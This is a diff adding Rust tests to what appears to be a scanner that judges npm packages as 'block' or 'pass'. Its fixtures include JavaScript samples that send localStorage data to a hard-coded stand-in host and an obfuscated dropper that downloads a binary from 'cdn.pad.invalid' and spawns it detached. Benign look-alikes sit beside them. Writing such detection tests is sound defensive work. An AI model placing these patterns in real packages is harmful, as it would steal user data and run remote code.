@@ -202,3 +202,41 @@ fn nobody_runs_a_script_of_a_pipeline_by_installing_what_was_published() {
         assert_eq!(verdict_of(MANIFEST, place, THIEF), "block", "{place}");
     }
 }
+
+#[test]
+fn what_goes_where_its_caller_says_is_the_callers() {
+    let page = |address: &str| {
+        format!(
+            "export async function push(baseUrl, token) {{ const all = {{}};\n  \
+             Object.keys(localStorage).filter(k => k.startsWith('app:')).forEach(k => all[k] = localStorage.getItem(k));\n  \
+             await fetch({address}, {{ method: 'PUT', headers: {{ authorization: token }}, body: JSON.stringify(all) }}); }}\n"
+        )
+    };
+    let report = "const os = require('os');\nexports.init = ({ dsn, environment }) => { process.on('uncaughtException', e => { \
+                  fetch(dsn, { method: 'POST', body: JSON.stringify({ message: e.message, server_name: os.hostname(), environment }) }); }); };\n";
+    let of = |code: &str| verdict(&[("package/package.json", MANIFEST), ("package/index.js", code)]);
+    assert_eq!(of(&page("baseUrl + '/settings'")), "pass");
+    assert_eq!(of(report), "pass");
+    assert_ne!(of(&page("'https://collect.invalid/settings'")), "pass");
+}
+
+#[test]
+fn names_of_modules_in_another_file_hide_nothing() {
+    let code = "const parts = require('./lib/names');\nconst k = (...i) => i.map(x => parts[x]).join('');\n\
+                require(k(1, 2)).get(k(1, 2, 3, 4), r => { const f = require('fs').createWriteStream('/tmp/.pad-cache'); r.pipe(f);\n\
+                f.on('close', () => require(k(5, 0))[k(6)]('/tmp/.pad-cache', [], { detached: true })); });\n";
+    let names = "module.exports = ['ld_process', 'htt', 'ps', '://', 'cdn.pad.invalid/b.bin', 'chi', 'spawn'];\n";
+    let files = [("package/package.json", MANIFEST), ("package/index.js", code), ("package/lib/names.js", names)];
+    assert_eq!(verdict(&files), "block");
+    let plugins =
+        "const names = require('./lib/names');\nfor (const n of names) exports[n] = require('./plugins/' + n);\n";
+    let names = "module.exports = ['left', 'right'];\n";
+    let files = [
+        ("package/package.json", MANIFEST),
+        ("package/index.js", plugins),
+        ("package/lib/names.js", names),
+        ("package/plugins/left.js", "module.exports = s => s.trimStart();\n"),
+        ("package/plugins/right.js", "module.exports = s => s.trimEnd();\n"),
+    ];
+    assert_eq!(verdict(&files), "pass");
+}
